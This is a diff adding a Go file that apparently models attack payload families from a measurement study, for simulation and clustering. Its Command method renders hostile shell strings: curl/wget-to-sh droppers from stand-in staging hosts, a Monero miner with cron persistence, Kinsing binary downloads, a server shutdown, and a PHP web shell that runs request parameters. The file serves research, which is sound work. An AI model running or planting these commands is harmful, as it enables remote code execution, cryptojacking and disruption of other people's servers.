@@ -1,0 +1,61 @@
+package attacker
+
+import "fmt"
+
+// Family names a payload family observed in the wild during the study.
+type Family string
+
+// The payload families the paper attributes attacks to (Section 4.3).
+const (
+	// FamilyMiner is the Monero cryptominer that kills competing malware
+	// and persists through a cronjob.
+	FamilyMiner Family = "monero-miner"
+	// FamilyKinsing is the Kinsing campaign, which moved from Docker to
+	// Hadoop during the study period.
+	FamilyKinsing Family = "kinsing"
+	// FamilyDropper is a generic stage-one dropper (wget/curl | sh).
+	FamilyDropper Family = "dropper"
+	// FamilyVigilante shuts servers down without further malice.
+	FamilyVigilante Family = "vigilante"
+	// FamilySpam hijacks CMS installations for SEO spam.
+	FamilySpam Family = "seo-spam"
+)
+
+// Payload is one concrete attack payload: a family plus a variant, which
+// fixes the command string. Repeated attacks with the same payload are
+// "known" in the analysis; a new variant is a new unique attack.
+type Payload struct {
+	Family  Family
+	Variant int
+}
+
+// Command renders the shell command the payload executes. Variants differ
+// in their staging host, so distinct variants produce distinct commands.
+func (p Payload) Command() string {
+	c2 := fmt.Sprintf("203.0.113.%d", 10+p.Variant%200)
+	switch p.Family {
+	case FamilyMiner:
+		return fmt.Sprintf(
+			"(curl -s http://%s/mi.sh || wget -q -O- http://%s/mi.sh) | sh; "+
+				"pkill -9 -f kdevtmpfsi; pkill -9 -f kinsing; "+
+				"./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44mv%02d --background; "+
+				"(crontab -l; echo '*/10 * * * * curl -s http://%s/mi.sh | sh') | crontab -",
+			c2, c2, p.Variant, c2)
+	case FamilyKinsing:
+		return fmt.Sprintf(
+			"wget -q -O /tmp/kinsing http://%s/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing; "+
+				"wget -q -O /tmp/kdevtmpfsi http://%s/kdevtmpfsi",
+			c2, c2)
+	case FamilyDropper:
+		return fmt.Sprintf("curl -fsSL http://%s/x%d.sh | sh", c2, p.Variant)
+	case FamilyVigilante:
+		return "echo 'this server is insecure, closing it for your own good'; shutdown -h now"
+	case FamilySpam:
+		return fmt.Sprintf("<?php /* pharma-spam v%d */ eval(base64_decode($_GET['q'])); system($_GET['c']); ?>", p.Variant)
+	default:
+		return "id"
+	}
+}
+
+// Key is a stable identity for payload clustering.
+func (p Payload) Key() string { return fmt.Sprintf("%s#%d", p.Family, p.Variant) }
